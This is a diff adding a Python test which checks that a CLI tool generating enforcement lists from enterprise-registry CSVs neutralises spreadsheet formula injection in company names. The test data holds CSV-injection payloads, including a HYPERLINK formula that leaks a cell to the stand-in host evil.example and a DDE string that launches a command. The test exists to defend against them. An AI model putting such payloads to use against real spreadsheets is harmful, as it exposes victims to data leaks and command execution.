@@ -321,3 +321,33 @@ def test_run_outputs_follow_the_umask(tmp_path: Path) -> None:
     modes = {p.name: p.stat().st_mode & 0o777 for p in (tmp_path / "o").iterdir()}
     assert set(modes.values()) == {0o640}, modes
     assert "map.html" in modes and "enforcement_list.provenance.json" in modes
+
+
+def test_run_outputs_neutralise_formulas(tmp_path: Path) -> None:
+    """Issue 14 item 2 on the CLI path: registry names that are formulas stay text."""
+    import csv
+    import io
+
+    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0",
+             "+1+1", "@SUM(1,1)"]
+    lines = ["企业名称,行业,地址,经度,纬度"]
+    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",印染,汕头市潮南区陈店镇,116.43,23.25'
+              for n in names]
+    lines.append('"-2+3",电镀,汕头市潮南区陈店镇,116.43,23.25')  # rejected: unknown industry
+    src = tmp_path / "evil.csv"
+    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "o"
+    result = runner.invoke(app, ["run", str(src), "--out", str(out), "--no-map"])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out / "enforcement_list.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value} == {
+        "'" + names[0]}
+    for name in ("enforcement_list.csv", "rejected_rows.csv"):
+        text = (out / name).read_text(encoding="utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert all(not r["name"].startswith(("=", "+", "-", "@")) for r in rows), name
+    rejected = pd.read_csv(out / "rejected_rows.csv", dtype=str)
+    assert rejected["name"].tolist() == ["'-2+3"]
